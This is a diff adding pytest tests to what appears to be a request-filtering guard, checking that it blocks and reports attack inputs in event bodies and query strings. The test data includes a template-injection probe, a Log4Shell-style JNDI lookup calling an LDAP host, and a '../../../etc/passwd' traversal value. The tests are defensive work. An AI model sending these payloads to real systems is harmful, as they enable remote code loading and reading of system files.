@@ -139,3 +139,33 @@ def test_a_cookie_whose_name_is_none_is_read_as_a_whole_too(cookie):
     }
     event["cookies"] = ["theme=dark", cookie]
     assert ("LG-XSS-001", "cookie", "blocked") in rules(event)
+
+
+PAGES = "{{7*7}}{{''.__class__.__mro__}}"
+
+
+@pytest.mark.parametrize(
+    ("event", "path", "rule", "also"),
+    [
+        (api_event({"note": PAGES}), "body.note", "LG-TMPL-001", {"LG-TMPL-002", "LG-PROTO-002"}),
+        (api_event(query={"q": PAGES}), "query.q", "LG-TMPL-001", {"LG-TMPL-002", "LG-PROTO-002"}),
+        (api_event({"note": "${jndi:ldap://203.0.113.66/a}"}), "body.note", "LG-JNDI-001", {"LG-SSRF-012"}),
+        (api_event({"notes": {"a": ["${jndi:ldap://203.0.113.66/a}"]}}), "body.notes.a[0]", "LG-JNDI-001", {"LG-SSRF-012"}),
+    ],
+)
+def test_what_refuses_an_event_is_told_once_with_all_the_rules_that_hold(event, path, rule, also):
+    """Nor is it told again of the body that holds it."""
+    (finding,) = guard(lambda event, context: [], on_block=lambda inv: inv.findings)(event, Context())
+    assert (finding.path, finding.rule_id, finding.action) == (path, rule, "blocked")
+    assert set(finding.detail["also"]) >= also
+
+
+def test_who_only_watches_is_told_each_rule(capsys):
+    guard(lambda event, context: [], mode="monitor")(api_event({"note": PAGES}), Context())
+    told = {line["finding_info"]["analytic"]["uid"] for line in findings_in(capsys.readouterr().out)}
+    assert told >= {"LG-TMPL-001", "LG-TMPL-002", "LG-PROTO-002"}
+
+
+def test_another_attack_in_the_same_event_is_told_too():
+    told = rules(api_event({"note": PAGES, "path": "../../../etc/passwd"}))
+    assert {path for _, path, _ in told} == {"body.note", "body.path"}
